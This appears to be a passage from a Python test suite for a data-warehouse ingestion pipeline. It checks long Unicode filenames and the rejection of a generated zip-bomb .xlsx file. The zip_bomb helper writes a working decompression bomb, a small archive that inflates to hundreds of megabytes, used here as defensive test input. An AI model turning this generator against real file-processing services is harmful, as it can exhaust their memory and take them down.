    inbox = tmp_path / "inbox"
    inbox.mkdir()
    long_name = "ờ" * 80 + ".csv"
    (inbox / long_name).write_text(listing(58, 2), encoding="utf-8")
    (inbox / "binh-thuong.csv").write_text(listing(59, 2), encoding="utf-8")
    results = {f.file: f for f in ingest([inbox], source="test", load_date=LOAD_DATE, progress=lambda _: None).files}
    assert results[long_name].status == results["binh-thuong.csv"].status == "loaded"
    [(stored,)] = query(warehouse, "SELECT stored_path FROM audit.landed_file WHERE original_name = %s", (long_name,))
    assert len(Path(stored).name.encode()) <= 255


BOMB_SCRIPT = """
import resource, sys
from datetime import date
from etl.pipeline import ingest
summary = ingest([sys.argv[1]], source="test", load_date=date(2024, 4, 1), progress=lambda _: None)
print({f.file: [f.status, f.error] for f in summary.files})
print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss * 1024)
"""


def zip_bomb(path: Path, megabytes: int) -> None:
    """An .xlsx of < 2 MB whose sheet XML is ``megabytes`` MB: the listing header, then millions of one-cell rows."""
    import zipfile

    ns = 'xmlns="http://schemas.openxmlformats.org/package/2006/'
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    parts = {
        "[Content_Types].xml": f'<Types {ns}content-types"><Default Extension="rels" ContentType="application/'
                               'vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" '
                               'ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType='
                               '"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
                               '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/'
                               'vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": f'<Relationships {ns}relationships"><Relationship Id="rId1" Type="{rel}/officeDocument" '
                       'Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{rel}"><sheets><sheet name="S" sheetId="1" '
                           'r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships {ns}relationships"><Relationship Id="rId1" '
                                      f'Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
    }

    def cell(value: str) -> str:
        return f'<c t="inlineStr"><is><t>{value}</t></is></c>'

    head = (f'<worksheet xmlns="{main}"><sheetData><row>'
            + "".join(cell(h) for h in corpus_maker.LISTING_HEADER) + "</row>").encode()
    block = ("<row>" + cell("x") + "</row>").encode() * 20_000
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as book:
        for name, text in parts.items():
            book.writestr(name, text)
        with book.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(head)
            for _ in range(megabytes * 1_000_000 // len(block)):
                sheet.write(block)
            sheet.write(b"</sheetData></worksheet>")


def test_a_zip_bomb_is_rejected_before_exhausting_memory(warehouse, tmp_path):
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    zip_bomb(inbox / "bom-nen.xlsx", 500)
    assert (inbox / "bom-nen.xlsx").stat().st_size < 2_000_000
    (inbox / "binh-thuong.csv").write_text(listing(60, 2), encoding="utf-8")

    def limit():  # a defect must not take the machine down: the child fails at 4 GB instead
        resource.setrlimit(resource.RLIMIT_AS, (4 << 30, 4 << 30))

    done = subprocess.run([sys.executable, "-c", BOMB_SCRIPT, str(inbox)], capture_output=True, text=True,
                          timeout=120, cwd=REPO_ROOT, preexec_fn=limit, env={**os.environ, "PYTHONPATH": str(REPO_ROOT)})
    assert done.returncode == 0, done.stderr[-2000:]
    outcome, peak = done.stdout.strip().splitlines()[-2:]
    outcome = eval(outcome)  # noqa: S307 (our own child's repr of a dict of lists of str)
    assert outcome["binh-thuong.csv"] == ["loaded", None]
    assert outcome["bom-nen.xlsx"][0] == "failed" and "bom-nen.xlsx" in outcome["bom-nen.xlsx"][1]
    assert int(peak) < MAX_RSS_BYTES, f"peak RSS {int(peak) / 1e9:.2f} GB"
